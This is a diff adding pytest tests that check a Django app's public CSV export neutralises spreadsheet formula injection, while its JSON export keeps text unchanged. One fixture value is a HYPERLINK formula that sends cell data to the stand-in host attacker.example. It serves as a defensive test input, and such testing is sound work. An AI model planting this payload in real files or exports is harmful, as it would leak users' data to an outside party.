@@ -1,0 +1,65 @@
+"""The public open data (CSV, JSON): text that a spreadsheet would run as a formula is neutralised in the CSV."""
+
+import csv
+import io
+import json
+
+import pytest
+
+from commitments.models import PublishedDeliverable
+
+pytestmark = pytest.mark.django_db
+
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
+
+
+@pytest.fixture
+def formula_row(published):
+    """A published row whose every free text starts like a formula (=, +, -, @)."""
+    row = PublishedDeliverable.objects.filter(period=published, parent=None).exclude(lead_note_en="").first()
+    row.text_en = row.text_fr = FORMULA
+    row.task_title_en = row.task_title_fr = "+1+2"
+    row.lead_note_en = row.lead_note_fr = "-2+3"
+    row.pillar_name_en = row.pillar_name_fr = "@SUM(A1:A9)"
+    row.save()
+    return row
+
+
+def csv_record(content, deliverable_id):
+    records = csv.DictReader(io.StringIO(content.decode("utf-8")))
+    return next(record for record in records if record["deliverable_id"] == str(deliverable_id))
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/en/downloads/2013-2014/action-items.csv",
+        "/fr/downloads/2013-2014/action-items.csv",
+        "/en/progress/2013-2014/?download=csv",
+        "/fr/progress/2013-2014/?download=csv",
+    ],
+)
+def test_the_csv_neutralises_every_text_that_starts_like_a_formula(client, formula_row, url):
+    record = csv_record(client.get(url).content, formula_row.deliverable_id)
+    assert record["text"] == "'" + FORMULA
+    assert record["task_title"] == "'+1+2"
+    assert record["lead_note"] == "'-2+3"
+    assert record["pillar"] == "'@SUM(A1:A9)"
+    assert not any(value.startswith(("=", "+", "-", "@")) for value in record.values())
+
+
+def test_the_csv_leaves_ordinary_text_and_numbers_as_they_are(client, formula_row, published):
+    ordinary = PublishedDeliverable.objects.filter(period=published, parent=None).exclude(pk=formula_row.pk).first()
+    record = csv_record(client.get("/en/downloads/2013-2014/action-items.csv").content, ordinary.deliverable_id)
+    assert record["text"] == ordinary.text_en
+    assert record["task"] == ordinary.task_code
+    assert record["deliverable_id"] == str(ordinary.deliverable_id)
+
+
+def test_the_json_keeps_the_text_as_typed(client, formula_row):
+    data = json.loads(client.get("/en/downloads/2013-2014/action-items.json").content)
+    record = next(record for record in data if record["deliverable_id"] == formula_row.deliverable_id)
+    assert record["text"] == FORMULA
+    assert record["task_title"] == "+1+2"
+    assert record["lead_note"] == "-2+3"
+    assert record["pillar"] == "@SUM(A1:A9)"
